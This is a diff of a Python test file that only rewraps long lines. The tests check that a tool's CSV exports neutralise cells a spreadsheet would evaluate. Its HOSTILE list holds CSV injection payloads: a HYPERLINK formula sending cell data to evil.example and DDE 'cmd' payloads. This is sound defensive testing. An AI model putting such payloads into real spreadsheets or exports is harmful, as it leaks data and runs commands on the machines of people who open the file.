@@ -1,4 +1,5 @@
-"""CSV outputs neutralise cells a spreadsheet would evaluate (OWASP CSV injection rule), whatever the deal data."""
+"""CSV outputs neutralise cells a spreadsheet would evaluate (OWASP CSV injection rule), whatever the deal
+data."""
 from __future__ import annotations
 
 import csv
@@ -8,8 +9,8 @@ import pytest
 
 from handrail.generators.data.csv_cells import safe_cell
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -61,6 +62,7 @@ def test_audit_csv_neutralises_owners_and_ids(run_cli, tmp_path, example_spec):
                            "--as-of", "2026-02-01", "--out", str(tmp_path / "audit.csv"))
     assert code == 0, err
     out = (tmp_path / "audit.csv").read_bytes().decode()
-    groups = [row["group"] for row in csv.DictReader(io.StringIO(out, newline="")) if row["section"] == "owner"]
+    groups = [row["group"] for row in csv.DictReader(io.StringIO(out, newline=""))
+              if row["section"] == "owner"]
     assert "'" + HOSTILE[0] in groups
     assert not [c for c in _cells(out) if c.startswith(("=", "+", "@", "\t", "\r"))]
